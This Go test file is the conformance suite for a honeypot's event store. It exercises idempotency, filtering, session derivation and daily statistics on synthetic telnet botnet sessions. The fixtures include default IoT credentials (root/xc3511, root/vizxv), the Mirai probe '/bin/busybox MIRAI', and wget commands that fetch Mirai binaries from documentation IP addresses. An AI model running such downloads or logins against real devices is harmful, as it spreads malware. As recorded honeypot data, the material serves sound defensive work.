// Package storetest is the conformance suite of store.Events: every adapter
// (SQLite now, PostgreSQL later) runs it from its own tests with
//
//	storetest.RunEvents(t, func(t *testing.T) store.Events { ... })
//
// so that all adapters behave the same way, down to idempotency on
// redelivery, how sessions fold from their events in any order, and the
// daily rollups. Other domains' stores (intel.Store, crawl.Store) have their
// own suites beside their interfaces, run by each adapter in the same way.
package storetest

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/honeygate/honeygate/internal/event"
	"github.com/honeygate/honeygate/internal/store"
	"github.com/honeygate/honeygate/internal/testkit/eventkit"
)

// RunEvents runs the conformance suite of store.Events. open must return a
// new, empty store each time it is called; RunEvents closes it at the end of
// the subtest (adapters' Close is idempotent, so open may also register its
// own Close).
func RunEvents(t *testing.T, open func(t *testing.T) store.Events) {
	openClosed := func(t *testing.T) store.Events {
		s := open(t)
		t.Cleanup(func() {
			if err := s.Close(); err != nil {
				t.Errorf("Close: %v", err)
			}
		})
		return s
	}
	tests := []struct {
		name string
		fn   func(t *testing.T, s store.Events)
	}{
		{"RoundTrip", testRoundTrip},
		{"Idempotent", testIdempotent},
		{"Filters", testFilters},
		{"SessionDerivation", testSessionDerivation},
		{"SessionNotFound", testSessionNotFound},
		{"LateConnect", testLateConnect},
		{"DailyStats", testDailyStats},
		{"DeadLetter", testDeadLetter},
		{"OpenSessions", testOpenSessions},
		{"ConcurrentAppend", testConcurrentAppend},
		{"RollupFamilyChange", testRollupFamilyChange},
		{"RollupLateConnect", testRollupLateConnect},
		{"RollupMatchesSessions", testRollupMatchesSessions},
		{"DistinctSources", testDistinctSources},
		{"Dashboard", testDashboard},
		{"EventByID", testEventByID},
		{"BlockByRef", testBlockByRef},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) { tc.fn(t, openClosed(t)) })
	}
	// Tests that compare stores fed the same events in different ways.
	multi := []struct {
		name string
		fn   func(t *testing.T, open func(t *testing.T) store.Events)
	}{
		{"Reordering", testReordering},
	}
	for _, tc := range multi {
		t.Run(tc.name, func(t *testing.T) { tc.fn(t, openClosed) })
	}
}

// t0 is the start of the synthetic attack; a fixed UTC time keeps days stable.
var t0 = time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC)

// appendOK appends evs and fails the test on error.
func appendOK(t *testing.T, s store.Events, evs ...event.Event) []event.Event {
	t.Helper()
	got, err := s.AppendEvents(context.Background(), evs)
	if err != nil {
		t.Fatalf("AppendEvents: %v", err)
	}
	return got
}

func eventsOK(t *testing.T, s store.Events, f store.EventFilter) []event.Event {
	t.Helper()
	got, err := s.Events(context.Background(), f)
	if err != nil {
		t.Fatalf("Events(%+v): %v", f, err)
	}
	return got
}

func sessionOK(t *testing.T, s store.Events, id string) *store.Session {
	t.Helper()
	got, err := s.Session(context.Background(), id)
	if err != nil {
		t.Fatalf("Session(%s): %v", id, err)
	}
	return got
}

func countOK(t *testing.T, s store.Events) int64 {
	t.Helper()
	n, err := s.CountEvents(context.Background())
	if err != nil {
		t.Fatalf("CountEvents: %v", err)
	}
	return n
}

// sameEvents compares events by their JSON encoding: every field, including
// an empty password ("" vs absent), with times compared as instants.
func sameEvents(t *testing.T, what string, got, want []event.Event) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("%s: got %d events %v, want %d %v", what, len(got), ids(got), len(want), ids(want))
	}
	for i := range got {
		g, w := encode(t, got[i]), encode(t, want[i])
		if g != w {
			t.Errorf("%s: event %d:\n got %s\nwant %s", what, i, g, w)
		}
	}
}

func encode(t *testing.T, e event.Event) string {
	t.Helper()
	e.Time = e.Time.UTC()
	b, err := json.Marshal(e)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func ids(evs []event.Event) []string {
	out := make([]string, len(evs))
	for i, e := range evs {
		out[i] = e.ID
	}
	return out
}

func reversed(evs []event.Event) []event.Event {
	out := slices.Clone(evs)
	slices.Reverse(out)
	return out
}

func testRoundTrip(t *testing.T, s store.Events) {
	a := eventkit.New("rt", "203.0.113.7", 23, t0)
	size := a.Size(1*time.Second, 80, 24)
	panicked := a.Event(event.SessionPanic, 9*time.Second)
	panicked.Message = "runtime error: index out of range"
	dl := a.Download(7*time.Second, "http://198.51.100.1/bins/mirai.arm7", "wget", "/tmp/m")
	dl.Input = "wget http://198.51.100.1/bins/mirai.arm7 -O /tmp/m"
	evs := []event.Event{
		a.Connect(0),
		size,
		a.LoginNoPassword(2*time.Second, "root", false),
		a.Login(3*time.Second, "admin", "", false),
		a.Login(4*time.Second, "root", "xc3511", true),
		a.Command(5*time.Second, "enable", "ok"),
		a.Command(6*time.Second, "cat /proc/cpuinfo | grep 'ü'", "ok"),
		dl,
		a.Attributed(8*time.Second, "mirai", "busybox MIRAI", "xc3511"),
		panicked,
		a.Closed(10*time.Second, "mirai"),
	}
	sameEvents(t, "inserted", appendOK(t, s, evs...), evs)

	got := eventsOK(t, s, store.EventFilter{Session: "rt"})
	sameEvents(t, "Events", got, reversed(evs))
	if got[len(got)-3].Password != nil {
		t.Errorf("absent password came back as %q", *got[len(got)-3].Password)
	}
	if p := got[len(got)-4].Password; p == nil || *p != "" {
		t.Errorf("empty password came back as %v, want pointer to \"\"", p)
	}
	sameEvents(t, "transcript", sessionOK(t, s, "rt").Transcript, evs)
	if n := countOK(t, s); n != int64(len(evs)) {
		t.Errorf("CountEvents = %d, want %d", n, len(evs))
	}
}

func testIdempotent(t *testing.T, s store.Events) {
	ctx := context.Background()
	a := eventkit.New("idem-a", "192.0.2.1", 23, t0)
	b := eventkit.New("idem-b", "192.0.2.2", 2323, t0.Add(time.Minute))
	first := []event.Event{
		a.Connect(0),
		a.Login(time.Second, "root", "root", true),
		a.Command(2*time.Second, "sh", "ok"),
		a.Closed(3*time.Second, ""),
	}
	sameEvents(t, "first append", appendOK(t, s, first...), first)
	statsBefore, err := s.DailyStats(ctx, t0, t0)
	if err != nil {
		t.Fatal(err)
	}

	if got := appendOK(t, s, first...); len(got) != 0 {
		t.Errorf("appending the same batch again inserted %v, want nothing", ids(got))
	}
	fresh := []event.Event{b.Connect(0), b.Login(time.Second, "guest", "guest", false)}
	overlap := append(slices.Clone(first[2:]), fresh[0], first[0], fresh[1], fresh[0])
	sameEvents(t, "overlapping append", appendOK(t, s, overlap...), fresh)

	if n := countOK(t, s); n != int64(len(first)+len(fresh)) {
		t.Errorf("CountEvents = %d, want %d", n, len(first)+len(fresh))
	}
	got := sessionOK(t, s, "idem-a")
	if len(got.Credentials) != 1 || len(got.Commands) != 1 || len(got.Transcript) != len(first) {
		t.Errorf("session after redelivery: %d credentials, %d commands, %d events; want 1, 1, %d",
			len(got.Credentials), len(got.Commands), len(got.Transcript), len(first))
	}

	appendOK(t, s, append(first, fresh...)...)
	statsAfter, err := s.DailyStats(ctx, t0, t0)
	if err != nil {
		t.Fatal(err)
	}
	want := append(statsBefore, store.DailyStat{Day: "2026-03-01", Family: event.FamilyUnknown, DstPort: 2323, Sessions: 1, Sources: 1})
	if !slices.Equal(statsAfter, want) {
		t.Errorf("DailyStats after redelivery = %+v, want %+v", statsAfter, want)
	}
}

func testFilters(t *testing.T, s store.Events) {
	var all []event.Event
	for i, ip := range []string{"198.51.100.1", "198.51.100.2", "198.51.100.3"} {
		a := eventkit.New(fmt.Sprintf("flt-%d", i), ip, 23, t0.Add(time.Duration(i)*time.Minute))
		family := []string{"", "mirai", "gafgyt"}[i]
		all = append(all, a.Connect(0))
		for j := range 40 {
			e := a.Command(time.Duration(j+1)*time.Second, fmt.Sprintf("echo %d", j), "ok")
			if j >= 10 {
				e.Family = family // as a sensor tags events once the family is known
			}
			all = append(all, e)
		}
		all = append(all, a.Closed(50*time.Second, family))
	}
	// Same time: newest-first order falls back to id, descending.
	tie := eventkit.New("flt-tie", "198.51.100.9", 23, t0.Add(time.Hour))
	all = append(all, tie.Connect(0), tie.Command(0, "x", "ok"))
	appendOK(t, s, all...)

	at := func(i int) time.Time { return all[i].Time }
	cases := []struct {
		f    store.EventFilter
		keep func(e event.Event) bool
	}{
		{store.EventFilter{}, func(event.Event) bool { return true }},
		{store.EventFilter{Limit: 5}, func(event.Event) bool { return true }},
		{store.EventFilter{Limit: 1000}, func(event.Event) bool { return true }},
		{store.EventFilter{Limit: 1 << 30}, func(event.Event) bool { return true }},
		{store.EventFilter{Kind: event.SessionConnect}, func(e event.Event) bool { return e.Kind == event.SessionConnect }},
		{store.EventFilter{Family: "mirai", Limit: 1000}, func(e event.Event) bool { return e.Family == "mirai" }},
		{store.EventFilter{Family: "Mirai", Limit: 1000}, func(e event.Event) bool { return e.Family == "mirai" }},
		{store.EventFilter{SrcIP: "198.51.100.3", Limit: 1000}, func(e event.Event) bool { return e.SrcIP == "198.51.100.3" }},
		{store.EventFilter{Session: "flt-1", Limit: 7}, func(e event.Event) bool { return e.Session == "flt-1" }},
		{store.EventFilter{Since: at(50), Until: at(90), Limit: 1000}, func(e event.Event) bool {
			return !e.Time.Before(at(50)) && e.Time.Before(at(90))
		}},
		{store.EventFilter{Kind: event.CommandInput, Family: "gafgyt", Since: at(100), Limit: 1000}, func(e event.Event) bool {
			return e.Kind == event.CommandInput && e.Family == "gafgyt" && !e.Time.Before(at(100))
		}},
		{store.EventFilter{Session: "nobody"}, func(event.Event) bool { return false }},
	}
	newestFirst := slices.Clone(all)
	slices.SortStableFunc(newestFirst, func(x, y event.Event) int {
		if c := y.Time.Compare(x.Time); c != 0 {
			return c
		}
		return strings.Compare(y.ID, x.ID)
	})
	for _, c := range cases {
		want := []event.Event{}
		for _, e := range newestFirst {
			if c.keep(e) {
				want = append(want, e)
			}
		}
		limit := c.f.Limit
		if limit <= 0 {
			limit = 100
		}
		want = want[:min(len(want), limit, 10000)]
		got := eventsOK(t, s, c.f)
		if !slices.Equal(ids(got), ids(want)) {
			t.Errorf("Events(%+v):\n got %v\nwant %v", c.f, ids(got), ids(want))
		}
	}
	if got := eventsOK(t, s, store.EventFilter{Limit: 2}); len(got) == 2 && (got[0].ID != "flt-tie-0002" || got[1].ID != "flt-tie-0001") {
		t.Errorf("ties on time: got %v, want [flt-tie-0002 flt-tie-0001]", ids(got))
	}
}

func testSessionDerivation(t *testing.T, s store.Events) {
	a := eventkit.New("derive", "203.0.113.50", 2323, t0)
	appendOK(t, s,
		a.Connect(0),
		a.Login(1*time.Second, "root", "", false),
		a.Login(2*time.Second, "root", "vizxv", true),
		a.Command(3*time.Second, "enable", "ok"),
		a.Command(4*time.Second, "/bin/busybox MIRAI", "ok"),
		a.Download(5*time.Second, "http://198.51.100.7/x.sh", "wget", "x.sh"),
		// Two verdicts in one batch: the later in time wins, not the later in the batch.
		a.Attributed(7*time.Second, "mirai", "busybox MIRAI"),
		a.Attributed(6*time.Second, "gafgyt", "x.sh"),
	)
	// An older verdict in a later batch does not win either.
	appendOK(t, s, a.Attributed(6500*time.Millisecond, "tsunami", "old"))
	got := sessionOK(t, s, "derive")
	if got.Family != "mirai" || !slices.Equal(got.Reasons, []string{"busybox MIRAI"}) {
		t.Errorf("family %q reasons %q, want mirai [busybox MIRAI]", got.Family, got.Reasons)
	}
	if got.End != nil {
		t.Errorf("End = %v before session.closed", got.End)
	}

	// The close repeats the final family without reasons: the reasons stay.
	appendOK(t, s, a.Closed(10*time.Second, "mirai"))
	got = sessionOK(t, s, "derive")
	want := store.Session{
		ID: "derive", Sensor: eventkit.DefaultSensor, Proto: "telnet", SrcIP: "203.0.113.50", SrcPort: a.SrcPort, DstPort: 2323,
		Start: t0, Family: "mirai", Reasons: []string{"busybox MIRAI"},
		Credentials: []store.Credential{
			{Time: t0.Add(1 * time.Second), Username: "root", Password: "", Success: false},
			{Time: t0.Add(2 * time.Second), Username: "root", Password: "vizxv", Success: true},
		},
		Commands:  []string{"enable", "/bin/busybox MIRAI"},
		Downloads: []store.Download{{Time: t0.Add(5 * time.Second), URL: "http://198.51.100.7/x.sh", Tool: "wget", Filename: "x.sh"}},
	}
	if got.End == nil || !got.End.Equal(t0.Add(10*time.Second)) {
		t.Errorf("End = %v, want %v", got.End, t0.Add(10*time.Second))
	}
	if len(got.Transcript) != 10 || got.Transcript[0].Kind != event.SessionConnect || got.Transcript[9].Kind != event.SessionClosed {
		t.Errorf("transcript %v: want 10 events, connect first, closed last", ids(got.Transcript))
	}
	got.End, got.Transcript = nil, nil
	if g, w := jsonOf(t, got), jsonOf(t, want); g != w {
		t.Errorf("session:\n got %s\nwant %s", g, w)
	}

	// Without any verdict, the family the events carry stands, the latest winning.
	b := eventkit.New("weak", "203.0.113.51", 23, t0)
	c1, c2 := b.Command(2*time.Second, "a", "ok"), b.Command(1*time.Second, "b", "ok")
	c1.Family, c2.Family = "mirai", "gafgyt"
	appendOK(t, s, b.Connect(0), c1, c2)
	c3 := b.Command(1500*time.Millisecond, "c", "ok") // older, in a later batch
	c3.Family = "tsunami"
	appendOK(t, s, c3)
	if got := sessionOK(t, s, "weak"); got.Family != "mirai" {
		t.Errorf("family from events = %q, want mirai", got.Family)
	}
	appendOK(t, s, b.Attributed(500*time.Millisecond, "hajime", "r"))
	if got := sessionOK(t, s, "weak"); got.Family != "hajime" || !slices.Equal(got.Reasons, []string{"r"}) {
		t.Errorf("after a verdict: family %q reasons %q, want hajime [r]", got.Family, got.Reasons)
	}

	// The same holds within one batch.
	c := eventkit.New("onebatch", "203.0.113.53", 23, t0)
	appendOK(t, s, c.Connect(0), c.Attributed(time.Second, "mirai", "r1"), c.Closed(2*time.Second, "mirai"))
	if got := sessionOK(t, s, "onebatch"); got.Family != "mirai" || !slices.Equal(got.Reasons, []string{"r1"}) {
		t.Errorf("verdict then close in one batch: family %q reasons %q, want mirai [r1]", got.Family, got.Reasons)
	}

	// A bare session still encodes its lists as [], never null.
	appendOK(t, s, eventkit.New("bare", "203.0.113.52", 23, t0).Connect(0))
	js := jsonOf(t, sessionOK(t, s, "bare"))
	for _, field := range []string{`"reasons":[]`, `"credentials":[]`, `"commands":[]`, `"downloads":[]`, `"family":""`} {
		if !strings.Contains(js, field) {
			t.Errorf("bare session %s lacks %s", js, field)
		}
	}
}

func jsonOf(t *testing.T, v any) string {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func testSessionNotFound(t *testing.T, s store.Events) {
	appendOK(t, s, eventkit.New("known", "192.0.2.9", 23, t0).Connect(0))
	got, err := s.Session(context.Background(), "unknown")
	if !errors.Is(err, store.ErrNotFound) {
		t.Errorf("Session(unknown) = %v, %v; want ErrNotFound", got, err)
	}
}

// A redelivery may bring a session's events before its connect: the session
// exists from its first event, and the connect then fixes its start.
func testLateConnect(t *testing.T, s store.Events) {
	a := eventkit.New("late", "192.0.2.77", 23, t0)
	connect := a.Connect(0)
	appendOK(t, s, a.Command(3*time.Second, "uname -a", "ok"))
	// An earlier event in a later batch moves the provisional start back.
	appendOK(t, s, a.Login(2*time.Second, "root", "1234", true))
	got := sessionOK(t, s, "late")
	if !got.Start.Equal(t0.Add(2*time.Second)) || got.SrcIP != "192.0.2.77" || got.DstPort != 23 {
		t.Errorf("before connect: start %v src %s port %d; want %v 192.0.2.77 23", got.Start, got.SrcIP, got.DstPort, t0.Add(2*time.Second))
	}
	appendOK(t, s, connect)
	got = sessionOK(t, s, "late")
	if !got.Start.Equal(t0) || len(got.Transcript) != 3 || got.Transcript[0].ID != connect.ID {
		t.Errorf("after connect: start %v transcript %v; want %v, connect first", got.Start, ids(got.Transcript), t0)
	}
	if len(got.Credentials) != 1 || len(got.Commands) != 1 {
		t.Errorf("after connect: %d credentials %d commands, want 1 and 1", len(got.Credentials), len(got.Commands))
	}
	stats, err := s.DailyStats(context.Background(), t0, t0)
	if err != nil {
		t.Fatal(err)
	}
	if len(stats) != 1 || stats[0].Sessions != 1 {
		t.Errorf("DailyStats = %+v, want one session", stats)
	}
}

func testDailyStats(t *testing.T, s store.Events) {
	day := func(d int, clock time.Duration) time.Time {
		return time.Date(2026, 3, d, 0, 0, 0, 0, time.UTC).Add(clock)
	}
	type sess struct {
		ip     string
		port   int
		start  time.Time
		family string
		byCl   bool // family from session.closed rather than session.attributed
	}
	sessions := []sess{
		{"10.0.0.1", 23, day(1, 0).Add(-time.Nanosecond), "mirai", false}, // the day before: out
		{"10.0.0.1", 23, day(1, 0), "mirai", false},
		{"10.0.0.1", 23, day(1, 5*time.Hour), "mirai", true},
		{"10.0.0.2", 23, day(1, 6*time.Hour), "mirai", false},
		{"10.0.0.2", 2323, day(1, 7*time.Hour), "", false},
		{"10.0.0.3", 23, day(2, 0), "gafgyt", false},
		{"10.0.0.3", 23, day(2, 24*time.Hour-time.Nanosecond), "", false},
		{"10.0.0.4", 23, day(3, 0), "", false},
		{"10.0.0.4", 23, day(4, 0), "", false}, // the day after: out
	}
	var evs []event.Event
	for i, x := range sessions {
		a := eventkit.New(fmt.Sprintf("day-%d", i), x.ip, x.port, x.start)
		evs = append(evs, a.Connect(0))
		switch {
		case x.family != "" && x.byCl:
			evs = append(evs, a.Closed(time.Minute, x.family))
		case x.family != "":
			evs = append(evs, a.Attributed(time.Second, x.family, "rule"), a.Closed(time.Minute, ""))
		default:
			evs = append(evs, a.Closed(time.Minute, ""))
		}
	}
	appendOK(t, s, evs...)

	// from and to are dates: their clock time does not matter.
	got, err := s.DailyStats(context.Background(), day(1, 15*time.Hour), day(3, 0))
	if err != nil {
		t.Fatal(err)
	}
	want := []store.DailyStat{
		{Day: "2026-03-01", Family: "mirai", DstPort: 23, Sessions: 3, Sources: 2},
		{Day: "2026-03-01", Family: "unknown", DstPort: 2323, Sessions: 1, Sources: 1},
		{Day: "2026-03-02", Family: "gafgyt", DstPort: 23, Sessions: 1, Sources: 1},
		{Day: "2026-03-02", Family: "unknown", DstPort: 23, Sessions: 1, Sources: 1},
		{Day: "2026-03-03", Family: "unknown", DstPort: 23, Sessions: 1, Sources: 1},
	}
	if !slices.Equal(got, want) {
		t.Errorf("DailyStats:\n got %+v\nwant %+v", got, want)
	}
	got, err = s.DailyStats(context.Background(), day(10, 0), day(11, 0))
	if err != nil || len(got) != 0 {
		t.Errorf("DailyStats of empty days = %+v, %v; want none", got, err)
	}
}

func testDeadLetter(t *testing.T, s store.Events) {
	ctx := context.Background()
	for _, data := range [][]byte{{0xff, 0x00, '{'}, nil, []byte(`{"id":""}`)} {
		if err := s.DeadLetter(ctx, "honeygate.events.sensor-1", data, "invalid event"); err != nil {
			t.Errorf("DeadLetter(%q): %v", data, err)
		}
	}
	// The same message twice is kept twice: nothing dedups dead letters.
	if err := s.DeadLetter(ctx, "honeygate.events.sensor-1", nil, "invalid event"); err != nil {
		t.Errorf("DeadLetter again: %v", err)
	}
	if n := countOK(t, s); n != 0 {
		t.Errorf("CountEvents = %d after dead letters only, want 0", n)
	}
}

// Several consumers append overlapping batches while readers query: every
// event is inserted exactly once, by exactly one of them.
func testConcurrentAppend(t *testing.T, s store.Events) {
	const workers, batches, perBatch, shared = 4, 8, 40, 10
	ctx := context.Background()
	common := eventkit.New("shared", "192.0.2.200", 23, t0)
	sharedEvs := []event.Event{common.Connect(0)}
	for i := 1; i < shared; i++ {
		sharedEvs = append(sharedEvs, common.Command(time.Duration(i)*time.Second, "id", "ok"))
	}

	var mu sync.Mutex
	seen := map[string]int{}
	var wg sync.WaitGroup
	errs := make(chan error, 2*workers)
	for w := range workers {
		wg.Go(func() {
			for b := range batches {
				a := eventkit.New(fmt.Sprintf("w%d-b%d", w, b), fmt.Sprintf("192.0.2.%d", w), 23, t0.Add(time.Duration(b)*time.Minute))
				batch := slices.Clone(sharedEvs)
				batch = append(batch, a.Connect(0))
				for len(batch) < perBatch {
					batch = append(batch, a.Command(time.Duration(len(batch))*time.Second, "x", "ok"))
				}
				ins, err := s.AppendEvents(ctx, batch)
				if err != nil {
					errs <- err
					return
				}
				mu.Lock()
				for _, e := range ins {
					seen[e.ID]++
				}
				mu.Unlock()
			}
		})
		wg.Go(func() {
			for range batches {
				if _, err := s.Events(ctx, store.EventFilter{Session: "shared"}); err != nil {
					errs <- err
					return
				}
			}
		})
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
	wantUnique := shared + workers*batches*(perBatch-shared)
	if len(seen) != wantUnique {
		t.Errorf("%d distinct events inserted, want %d", len(seen), wantUnique)
	}
	for id, n := range seen {
		if n != 1 {
			t.Errorf("event %s reported inserted %d times", id, n)
		}
	}
	if n := countOK(t, s); n != int64(wantUnique) {
		t.Errorf("CountEvents = %d, want %d", n, wantUnique)
	}
	stats, err := s.DailyStats(ctx, t0, t0)
	if err != nil {
		t.Fatal(err)
	}
	if len(stats) != 1 || stats[0].Sessions != int64(1+workers*batches) {
		t.Errorf("DailyStats = %+v, want %d sessions", stats, 1+workers*batches)
	}
}

// testOpenSessions: the sessions a sensor never closed (a crash), and only
// those, oldest first.
func testOpenSessions(t *testing.T, s store.Events) {
	ctx := context.Background()
	closed := eventkit.New("closed", "192.0.2.1", 23, t0)
	open := eventkit.New("open-early", "192.0.2.2", 23, t0.Add(time.Minute))
	older := eventkit.New("open-older", "192.0.2.5", 2323, t0)
	other := eventkit.New("other-sensor", "192.0.2.3", 23, t0, eventkit.Sensor("sensor-2"))
	late := eventkit.New("open-late", "192.0.2.4", 23, t0.Add(2*time.Hour))
	evs := []event.Event{
		closed.Connect(0), closed.Command(time.Second, "id", "ok"), closed.Closed(2*time.Second, "unknown"),
		open.Connect(0), open.Command(time.Second, "id", "ok"),
		older.Connect(0),
		other.Connect(0),
		late.Connect(0),
	}
	if _, err := s.AppendEvents(ctx, evs); err != nil {
		t.Fatal(err)
	}
	got, err := s.OpenSessions(ctx, eventkit.DefaultSensor, t0.Add(time.Hour), 10)
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, g := range got {
		ids = append(ids, g.ID)
		if g.End != nil || g.SrcIP == "" || g.Proto != "telnet" {
			t.Errorf("open session %+v", g)
		}
	}
	if want := []string{"open-older", "open-early"}; !slices.Equal(ids, want) {
		t.Errorf("open sessions %v, want %v", ids, want)
	}
	if got, _ := s.OpenSessions(ctx, eventkit.DefaultSensor, t0.Add(time.Hour), 1); len(got) != 1 {
		t.Errorf("limit 1: %d sessions", len(got))
	}
}
